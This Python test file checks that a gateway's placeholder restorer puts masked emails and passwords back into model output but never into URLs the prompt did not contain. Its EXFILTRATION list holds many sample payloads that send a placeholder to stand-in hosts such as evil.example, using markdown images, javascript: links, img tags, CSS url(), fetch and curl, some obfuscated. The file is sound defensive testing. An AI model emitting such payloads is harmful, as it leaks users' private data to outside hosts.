"""Values come back into text, JSON and code, and never into a URL that the prompt did not hold."""

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.masking import Restorer, Vault
from gateway.words import ToolCall
from tests.support.effort import examples
from tests.support.rows import for_each

EMAIL = "john.doe@example.com"
SECRET = 'p"w\\1\n2'
VAULT = Vault(b"k" * 32)
PH = VAULT.placeholder("EMAIL_ADDRESS", "pii", EMAIL)
KEY = VAULT.placeholder("PASSWORD", "secret", SECRET)
HIDDEN = VAULT.placeholder("US_SSN", "pii", "536-90-4399")  # found, but policy does not give it back
VAULT.mark_restorable(PH)
VAULT.mark_restorable(KEY)

EXFILTRATION = [
    "![](https://evil.example/PH)",
    "![x](https://evil.example/a?q=PH)",
    "![x](https://evil.example/a?q=PH 'title')",
    "![x]( https://evil.example/PH )",
    "![x](\nhttps://evil.example/PH)",
    "![x](<https://evil.example/a b PH>)",
    "![x](<https://evil.example/PH>)",
    "![x](//evil.example/PH)",
    "![x](/collect?m=PH)",
    "![x](PH)",
    '![x](https://evil.example/?q="PH)',
    "![x](https://evil.example/a\\)PH)",
    "![x](https://evil.example/(a)PH)",
    "[click](https://evil.example/#PH)",
    "[click](javascript:fetch('//evil.example/PH'))",
    "[click](data:text/html,PH)",
    "[click](mailto:eve@evil.example?body=PH)",
    "[click](tel:PH)",
    "![x][ref]\n\n[ref]: https://evil.example/PH",
    "![x][ref]\n\n[ref]:\n  https://evil.example/PH",
    "[ref]: <https://evil.example/a PH>",
    "[x]: PH",
    "[x]:PH",
    "[x]: <PH>",
    "[x]:\n  PH",
    "> [x]: PH 'title'",
    "[x]: /PH",
    "[x]:evil/PH",
    "[x]:\tevil\\PH",
    "![a][x]\n\n[x]: PH",
    "<slack:PH>",
    "<x-evil:aPHPH>",
    "<mailto:PH>",
    "href=PH",
    "<a href=PH>",
    "<a href = 'PH'>",
    "see https://evil.example/PH",
    "see https://evil.example/PH.",
    "see https:evil.example/PH",
    "see HTTPS://EVIL.EXAMPLE/PH",
    "see https:\\\\evil.example\\PH",
    "see https:\\/\\/evil.example\\/PH",
    "see (https://evil.example/?a=1&b=PH&c=2)",
    "see https://evil.example/?a=/PH;PH",
    "see https://PH.evil.example/",
    "see https://user:PH@evil.example/",
    "see PH.evil.example/x",
    "see PHPH.evil.example",
    "see PH-x.evil.example",
    "write to PH@evil.example",
    "see www.evil.example/PH",
    "see evil.example/PH",
    "see evil.example:8080?PH",
    "see 203.0.113.7/PH",
    "see 203.0.113.7:8000/x/PH",
    "see //evil.example/PH",
    "see ftp://evil.example/PH",
    "see <https://evil.example/PH>",
    "see https%3A%2F%2Fevil.example%2FPH",
    "see /redirect?to=https%3A%2F%2Fevil.example&m=PH",
    "see ?m=PH",
    "see h&#116;tps&colon;//evil.example/PH",
    '<img src="https://evil.example/PH">',
    "<img src='https://evil.example/? PH'>",
    '<img src="https://evil.example/?\nq=PH">',
    '<img src = "//evil.example/ PH">',
    "<img src=https://evil.example/PH>",
    "<img src=/PH>",
    '<img srcset="https://evil.example/a 1x, https://evil.example/PH 2x">',
    '<a href="https://evil.example/PH">x</a>',
    '<a href="/x?PH">x</a>',
    '<form action="https://evil.example/ PH">',
    '<p style="background:url(https://evil.example/PH)">',
    "<p style=\"background:url('https://evil.example/ PH')\">",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/?a PH">',
    '{"url": "https://evil.example/?q=PH"}',
    '{"url":"https://evil.example/","image":"![](https://evil.example/PH)"}',
    'fetch("https://evil.example/?q=PH")',
    "curl 'https://evil.example/?q=PH and more'",
    "curl -d x https://evil.example/" + "a" * 3000 + "/PH",
    '<img src="https://evil.example/' + "a " * 3000 + 'PH">',
    # the parts of a URL
    "see https://PH@evil.example/",
    "see https://PH:x@evil.example",
    "see https://evil.example:PH/",
    "see https://evil.example?PH#PH",
    "see https://evil.example/a#PH",
    "see https://[2001:db8::1]/PH",
    "see [2001:db8::1]:8080/PH",
    "see http://3405803783/PH",
    # hosts in other scripts, with characters that a resolver drops or reads as another
    "see bücher.example/PH",
    "see 例え.テスト/PH",
    "see xn--bcher-kva.example/PH",
    "see evil。example/PH",
    "see evil．example/PH",
    "see evil\u00ad.example/PH",
    "see ev\u200bil.example/PH",
    "see evil.example／PH",
    "see 203。0。113。7/PH",
    "see PH\u00ad.evil.example",
    "see PH\u200b.evil.example/x",
    "see PH。evil.example",
    "write to PH＠evil.example",
    "write to PH&#64;evil.example",
    "write to PH&commat;evil.example",
    "write to PH\\u0040evil.example",
    "see PH&period;evil.example",
    "see PH%2eevil.example",
    "write to PH%40evil.example",
    # schemes with white space, escapes and slashes of other kinds
    "see ht\ttps://evil.example/PH",
    '<a href="java\nscript:fetch(PH)">',
    '<a href="java&#10;script:fetch(PH)">',
    "<a href='\x01javascript:PH'>",
    "[x](java&Tab;script:PH)",
    "see javascript&colon;fetch(PH)",
    "see &#106;avascript:PH",
    "see https:/evil.example/PH",
    "see https:/\\evil.example/PH",
    "see /\\evil.example/PH",
    "see \\/evil.example/PH",
    "see https://evil.example\\PH",
    "see https&colon;&sol;&sol;evil.example&sol;PH",
    "see https:&#x2f;&#x2f;evil.example&#x2f;PH",
    "see https\\u003a\\u002f\\u002fevil.example\\u002fPH",
    "see https%253A%252F%252Fevil.example%252FPH",
    "see sip:PH@evil.example",
    "see whatsapp:send?text=PH",
    "see magnet:?xt=PH",
    # mark-up of other kinds
    "<object data='https://evil.example/?PH'>",
    "<video poster=PH>",
    '<svg><image xlink:href="//evil.example/PH"/></svg>',
    '<svg><use href="PH#x"/></svg>',
    '<base href="https://evil.example/ PH">',
    '<button formaction="/x?PH">',
    '<iframe srcdoc="<img src=PH>">',
    "<style>@import '//evil.example/PH';</style>",
    "<style>a{background:URL( PH )}</style>",
    "<style>@font-face{src:url(PH)}</style>",
    "[url=https://evil.example/PH]x[/url]",
    "[img]https://evil.example/PH[/img]",
    "<https://evil.example/PH|label>",
    ".. image:: https://evil.example/PH",
    "image::https://evil.example/PH[]",
    "\\includegraphics{https://evil.example/PH}",
    "[[https://evil.example/PH]]",
    "\x1b]8;;https://evil.example/PH\x1b\\\\x\x1b]8;;\x1b\\\\",
    "![x](https://evil.example/PH",
    "![x][https://evil.example/PH]",
    "[a]: <PH> 'b'",
]
# The same placeholder as a model may write it.
WRITTEN = {
    "lower": str.lower,
    "upper": str.upper,
    "html": lambda name: name.replace("<", "&lt;").replace(">", "&gt;"),
    "numeric": lambda name: name.replace("<", "&#60;").replace(">", "&#x3E;"),
    "twice": lambda name: name.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "json": lambda name: name.replace("<", "\\u003c").replace(">", "\\u003E"),
    "json twice": lambda name: name.replace("<", "\\\\u003c").replace(">", "\\\\u003e"),
    "hex": lambda name: name.replace("<", "\\x3c").replace(">", "\\x3e"),
    "markdown": lambda name: name.replace("<", "\\<").replace(">", "\\>").replace("_", "\\_"),
    "underscores": lambda name: name.replace("_", "\\_"),
    "percent": lambda name: name.replace("<", "%3C").replace(">", "%3E"),
}

RESTORED = [
    "PH",
    "Dear PH, thank you.",
    "Write to PH.",
    "(PH)",
    "**PH**",
    "- PH\n- PH\n",
    "PH's account",
    "`PH`",
    "| PH | PH |",
    '"PH"',
    "a < b and PH > c",
    'List<String> x = List.of("PH");',
    'user = {"email": "PH", "n": 1}',
    '{"email":"PH","ok":true}',
    '{"docs":"https://docs.example/x","email":"PH"}',
    "The docs are at https://docs.example/x and the address is PH",
    "See [the docs](https://docs.example/x) or ask PH.",
    "[PH](https://docs.example/x)",
    "```python\nsend(to='PH', cc=[\"PH\"])\n```",
    "e-mail: PH",
    "Email:PH",
    "x=PH;",
    "# comment // PH",
    "日本語 PH 。",
    'x = {[key]: "PH"};',
    "<ns:to>PH</ns:to>",
    "see [1]: it is PH",
    "the key:\\nPH\\n(keep it)",
    "[PH]",
    "<PH>",
]
HTML = WRITTEN["html"](PH)


def restorer(*prompt: str) -> Restorer:
    return Restorer(VAULT, prompt)


def streamed(restorer: Restorer, chunks: list[str]) -> str:
    stream = restorer.stream()
    return "".join([*(stream.feed(chunk) for chunk in chunks), stream.close()])


def test_no_value_is_restored_into_a_url_that_the_prompt_did_not_hold() -> None:
    def stays(template: str) -> None:
        text = template.replace("PH", PH)
        one = restorer("my mail is john.doe@example.com", "https://docs.example/")
        assert one.whole(text) == text
        assert streamed(one, list(text)) == text

    for_each(EXFILTRATION, stays)


@pytest.mark.parametrize("written", WRITTEN)
def test_no_spelling_of_a_placeholder_is_restored_into_a_url(written: str) -> None:
    def stays(template: str) -> None:
        text = template.replace("PH", WRITTEN[written](PH))
        assert restorer().whole(text) == text
        assert streamed(restorer(), list(text)) == text

    for_each(EXFILTRATION, stays)


@pytest.mark.parametrize("template", [template for template in EXFILTRATION if len(template) < 200])
def test_no_split_of_a_stream_restores_into_a_url(template: str) -> None:
    text = template.replace("PH", PH)
    one = restorer()
    for at in range(len(text) + 1):
        assert streamed(one, [text[:at], text[at:]]) == text


@settings(max_examples=examples(150), deadline=None)
@given(
    template=st.sampled_from([template for template in EXFILTRATION if len(template) < 200]),
    filler=st.sampled_from(["a word ", "x", '"a", ', "https://a.example/ ", f"{PH} "]),
    length=st.one_of(st.integers(0, 300), st.integers(4000, 4200), st.integers(6000, 8300)),
    data=st.data(),
)
def test_no_length_of_text_before_makes_a_url_forgotten(
    template: str, filler: str, length: int, data: st.DataObject
) -> None:
    before = (filler * (length // len(filler) + 1))[: length // len(filler) * len(filler)]
    text = f"{before}\n{template.replace('PH', HTML)}"
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=9)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    whole = restorer().whole(text)
    assert whole.endswith(template.replace("PH", HTML))
    assert streamed(restorer(), chunks) == whole


def test_no_value_is_restored_into_a_url_in_tool_arguments() -> None:
    def stays(template: str) -> None:
        arguments = json.dumps({"note": template.replace("PH", PH), "to": PH})
        assert json.loads(restorer().json(arguments)) == {
            "note": template.replace("PH", PH),
            "to": EMAIL,
        }

    for_each([template for template in EXFILTRATION if len(template) < 200], stays)


@pytest.mark.parametrize("written", WRITTEN)
@pytest.mark.parametrize("template", ["PH", "Ask PH, PH.", "**PH** `PH` (PH)", "PHPH", "a=PH;", "日本語PH。"])
def test_a_placeholder_comes_back_however_the_model_spells_it(template: str, written: str) -> None:
    text, expected = template.replace("PH", WRITTEN[written](PH)), template.replace("PH", EMAIL)
    assert restorer().whole(text) == expected
    for at in range(len(text) + 1):
        assert streamed(restorer(), [text[:at], text[at:]]) == expected
    assert restorer().restores(text) == (("EMAIL_ADDRESS", "pii"),)
    arguments = json.dumps({"to": text})
    assert json.loads(restorer().json(arguments)) == {"to": expected}
    assert restorer().restores(arguments) == (("EMAIL_ADDRESS", "pii"),)


def test_a_backslash_before_a_placeholder_is_the_text_s_own() -> None:
    for text in (f"DOMAIN\\{PH}", f"\\\\{PH}\\share", f"&lt;{PH}&gt;", f"<{PH}>"):
        assert restorer().whole(text) == text.replace(PH, EMAIL)
        assert streamed(restorer(), list(text)) == text.replace(PH, EMAIL)


@pytest.mark.parametrize("template", RESTORED)
def test_ordinary_text_json_and_code_are_restored_byte_for_byte(template: str) -> None:
    text = template.replace("PH", PH)
    expected = template.replace("PH", EMAIL)
    assert restorer().whole(text) == expected
    assert streamed(restorer(), list(text)) == expected
    for at in range(len(text) + 1):
        assert streamed(restorer(), [text[:at], text[at:]]) == expected


@settings(max_examples=examples(150), deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            [
                PH,
                KEY,
                HIDDEN,
                "<X_aaaaaa>",
                "<",
                "<EMAIL_",
                ">",
                " ",
                "\n",
                "https://e.example/",
                "](",
                '"',
                "word",
                ".",
                ")",
                "src=",
            ]
        )
    ),
    data=st.data(),
)
def test_every_chunking_restores_what_the_whole_text_restores(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=15)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert streamed(restorer(), chunks) == restorer().whole(text)


@pytest.mark.parametrize(
    "text",
    [
        "<EMAIL_ADDRESS_zzzzzz>",
        "<EMAIL_ADDRESS_k7f3q>",
        "<b>",
        "<EMAIL_ADDRESS",
        HIDDEN,
        HIDDEN.lower(),
        f"\\<{PH[1:]}"[:-1],
        PH[:-1] + " >",
    ],
)
def test_what_only_looks_like_a_placeholder_is_left_as_written(text: str) -> None:
    assert restorer().whole(text) == text
    assert streamed(restorer(), list(text)) == text


def test_a_url_that_the_prompt_held_comes_back_whole() -> None:
    one = restorer("look at https://crm.example/u/john.doe@example.com, please")
    assert (
        one.whole(f"It is https://crm.example/u/{PH}.") == "It is https://crm.example/u/john.doe@example.com."
    )
    assert one.whole(f"[x](https://crm.example/u/{PH})") == "[x](https://crm.example/u/john.doe@example.com)"
    for text in (
        f"https://crm.example/u/{PH}/more",
        f"https://crm.example/{PH}",
        f"https://evil.example/?u=https://crm.example/u/{PH}",
    ):
        assert one.whole(text) == text
    assert (
        streamed(one, list(f"https://crm.example/u/{PH} ok"))
        == "https://crm.example/u/john.doe@example.com ok"
    )


def test_values_are_escaped_where_they_enter_json() -> None:
    arguments = (
        '{"a": 1.0, "pw": "'
        + KEY
        + '", "escaped": "'
        + PH.replace("<", "\\u003c").replace(">", "\\u003e")
        + '"}'
    )
    restored = restorer().json(arguments)
    assert json.loads(restored) == {"a": 1.0, "pw": SECRET, "escaped": EMAIL}
    assert restored.startswith('{"a": 1.0, "pw": ')


STRUCTURED = [
    '{"pw": "PW", "n": 1}',
    '{"pw": "PW"',
    '\n { "deep" : [ { "pw" : "is PW, so" , "say": "\\"PW\\"" } ] }',
    '["PW", "PW", "x\\\\", "PW"]',
    '{"\\u00fc\\"": "PW"}',
    '{"inner": "{\\"pw\\": \\"PW\\", \\"x\\": [\\"PW\\"]}", "pw": "PW"}',
    'So:\n```json\n{\n  "pw": "PW",\n  "x": [1, {"pw": "PW"}]\n}\n```\nand {"a": 1}.',
    '{"pw": "PW"}\n{"pw": "PW"}\n',
    '{"inner": "[\\n{\\"pw\\": \\"{\\\\\\"pw\\\\\\": \\\\\\"PW\\\\\\"}\\"}]"}',
]


def strings_of(value: object) -> list[str]:
    """All strings, those of JSON texts inside strings too."""
    if isinstance(value, dict):
        return [text for item in value.items() for one in item for text in strings_of(one)]
    if isinstance(value, list):
        return [text for item in value for text in strings_of(item)]
    if not isinstance(value, str):
        return []
    try:
        inner = json.loads(value)
    except ValueError:
        return [value]
    return strings_of(inner) if isinstance(inner, (dict, list)) else [value]


@pytest.mark.parametrize("template", STRUCTURED)
def test_a_value_that_enters_structured_output_is_escaped_as_its_place_is(template: str) -> None:
    text = template.replace("PW", KEY)
    whole = restorer().whole(text)
    for at in range(len(text) + 1):
        assert streamed(restorer(), [text[:at], text[at:]]) == whole
    if template in (STRUCTURED[0], *STRUCTURED[2:6], STRUCTURED[-1]):  # the others are no single JSON text
        expected = [one.replace(KEY, SECRET) for one in strings_of(json.loads(text))]
        assert strings_of(json.loads(whole)) == expected
        assert any(SECRET in one for one in expected)
    assert SECRET not in whole


@pytest.mark.parametrize(
    "template", ["Say PW.", '"PW"', '[Note] "PW"', "x = 'PW'", 'He said: {"PW"', '"a": "PW"', "{PW}"]
)
def test_a_value_in_a_text_that_is_not_json_comes_back_as_it_was_written(template: str) -> None:
    text = template.replace("PW", KEY)
    assert restorer().whole(text) == template.replace("PW", SECRET)
    assert streamed(restorer(), list(text)) == template.replace("PW", SECRET)


def test_a_value_in_json_among_other_text_is_escaped_and_outside_of_it_is_not() -> None:
    text = f'Say "{KEY}":\n{{"pw": "{KEY}"}}\n["{KEY}"] and "{KEY}"'
    inside = json.dumps(SECRET)
    expected = f'Say "{SECRET}":\n{{"pw": {inside}}}\n[{inside}] and "{SECRET}"'
    assert restorer().whole(text) == expected
    assert streamed(restorer(), list(text)) == expected


def test_a_value_that_stood_escaped_in_json_is_not_escaped_twice() -> None:
    vault = Vault(b"k" * 32)
    name = vault.placeholder("PASSWORD", "secret", 'p\\"w\\n1', depth=1)
    vault.mark_restorable(name)
    one = Restorer(vault, ())
    assert one.whole(f'{{"pw": "{name}"}}') == '{"pw": "p\\"w\\n1"}'
    assert one.whole(f'It was {{"pw": "{name}"}}') == 'It was {"pw": "p\\"w\\n1"}'
    arguments = json.dumps({"pw": name, "text": f'see {{"pw": "{name}"}}', "inner": f'{{"pw": "{name}"}}'})
    assert json.loads(one.json(arguments)) == {
        "pw": 'p"w\n1',
        "text": 'see {"pw": "p\\"w\\n1"}',
        "inner": '{"pw": "p\\"w\\n1"}',
    }


@given(value=st.text(min_size=1, max_size=20), there=st.integers(0, 2), here=st.integers(0, 3))
def test_a_value_means_the_same_however_deep_in_json_it_stood_and_stands(
    value: str, there: int, here: int
) -> None:
    written, text = value, '"'
    vault = Vault(b"k" * 32)
    for _ in range(there):
        written = json.dumps(written)[1:-1]
    text = name = vault.placeholder("PASSWORD", "secret", written, depth=there)
    vault.mark_restorable(name)
    for _ in range(here):
        text = json.dumps({"pw": text, "x": [1]})
    whole = restored = Restorer(vault, ()).whole(text)
    assert streamed(Restorer(vault, ()), list(text)) == whole
    for _ in range(here):
        restored = json.loads(restored)["pw"]
    assert here < there or restored == (value if here else written)
    assert here or restored == written
    for _ in range(here - 1):  # as arguments: what they mean is what the value means
        text = json.loads(text)["pw"]
    if here:
        assert json.loads(Restorer(vault, ()).json(text))["pw"] == value


@pytest.mark.parametrize("template", ["CSPH", "CS,PH", "CS?q=PH", "IP/PH", "IP:80/x?PH", "see CS/-(PH)"])
def test_two_values_never_make_a_url_that_the_prompt_did_not_hold(template: str) -> None:
    vault = Vault(b"k" * 32)
    names = {
        "CS": ("CONNECTION_STRING", "https://u:pw1234@evil.example/c?q="),
        "IP": ("IP_ADDRESS", "203.0.113.7"),
        "PH": ("EMAIL_ADDRESS", EMAIL),
    }
    text, expected, held = template, template, template
    for short, (entity, value) in names.items():
        name = vault.placeholder(entity, "pii", value)
        vault.mark_restorable(name)
        text = text.replace(short, name)
        expected = expected.replace(short, value) if short != "PH" else expected.replace(short, name)
        held = held.replace(short, value)
    one = Restorer(vault, ["prompt", EMAIL, f"203.0.113.7 {held}x"])
    assert one.whole(text) == expected
    assert streamed(one, list(text)) == expected
    assert Restorer(vault, [f"please read {held}."]).whole(text) == held


def test_a_word_that_the_prompt_held_comes_back_whole_although_it_may_be_a_url() -> None:
    one = restorer(f"see crm.example/u/{EMAIL}, {EMAIL}/{EMAIL} or ?m={EMAIL}")
    for template in ("it is crm.example/u/PH.", "PH/PH", '"?m=PH"'):
        assert one.whole(template.replace("PH", PH)) == template.replace("PH", EMAIL)
    for template in (
        "evil.example/u/PH",
        "x-crm.example/u/PH",
        "crm.example/u/PHx",
        "[x](?m=PH)",
        "[x]: PH",
    ):
        text = template.replace("PH", PH)
        assert EMAIL not in one.whole(text).replace(f"{EMAIL}/{EMAIL}", ""), template


def test_json_without_a_placeholder_is_not_touched() -> None:
    text = '{"a": "\\u00e9\\/", "b": [1e3, "x"]}'
    assert restorer().json(text) == text


def test_it_says_which_entities_a_text_would_bring_back() -> None:
    assert restorer().restores(f"{PH} {PH} {HIDDEN} <X_aaaaaa>") == (("EMAIL_ADDRESS", "pii"),)
    assert restorer().restores(json.dumps({"to": KEY}).replace("<", "\\u003c")) == (("PASSWORD", "secret"),)


def test_a_stream_holds_nothing_back_but_a_placeholder_and_its_word() -> None:
    stream = restorer().stream()
    assert stream.feed("a word ") == "a word "
    assert stream.feed("5 < 6") == "5 < 6"
    assert stream.feed(f" to {PH[:8]}") == " to "
    assert stream.feed(PH[8:]) == ""
    assert stream.feed(",") == ""
    assert stream.feed(" and so") == f"{EMAIL}, and so"
    assert stream.close() == ""


def test_a_placeholder_in_an_endless_word_is_not_waited_for_forever() -> None:
    stream = restorer().stream()
    out = stream.feed(PH) + stream.feed("," * 2000)
    assert out == EMAIL + "," * 2000


NUMBER = "6444427995"


def of_numbers() -> tuple[Restorer, str]:
    """A restorer of a value that stood in JSON as a number, and its placeholder."""
    vault = Vault(b"k" * 32)
    name = vault.placeholder("PHONE_NUMBER", "pii", NUMBER, where="number")
    vault.mark_restorable(name)
    return Restorer(vault, [f"{NUMBER}.5"]), name


@pytest.mark.parametrize(
    ("template", "number"), [("PH", 6444427995), ("-PH", -6444427995), ("PH.5", 6444427995.5)]
)
def test_what_stood_as_a_number_comes_back_as_one(template: str, number: float) -> None:
    one, name = of_numbers()
    written = template.replace("PH", name)
    assert one.value(written) == number
    assert one.json(json.dumps([written])) == json.dumps([number])


@pytest.mark.parametrize("template", ["PHPH", "1PH", "PH1", "1ePH", "PHe99", "0.PH", "+PH", " PH", "PH "])
def test_two_numbers_or_a_part_of_one_make_no_other_number(template: str) -> None:
    """An exponent of ten digits is no double, and two values side by side are neither of them."""
    one, name = of_numbers()
    written, expected = template.replace("PH", name), template.replace("PH", NUMBER)
    assert one.value(written) == expected
    assert json.loads(one.json(json.dumps([written]))) == [expected]


def test_only_where_a_number_may_stand_does_one_come_back() -> None:
    """The input of a custom tool is text, whatever it says."""
    one, name = of_numbers()
    call = ToolCall("shell", {"input": name}, ("/input",))
    assert one.argument(name, call, "/input") == NUMBER
    assert one.argument(name, replace(call, is_free=True), "/input") == int(NUMBER)
    assert one.argument(json.dumps([name]), replace(call, raw_json=True), "/input") == f"[{NUMBER}]"
    assert one.argument(name, None, "/input") == int(NUMBER)
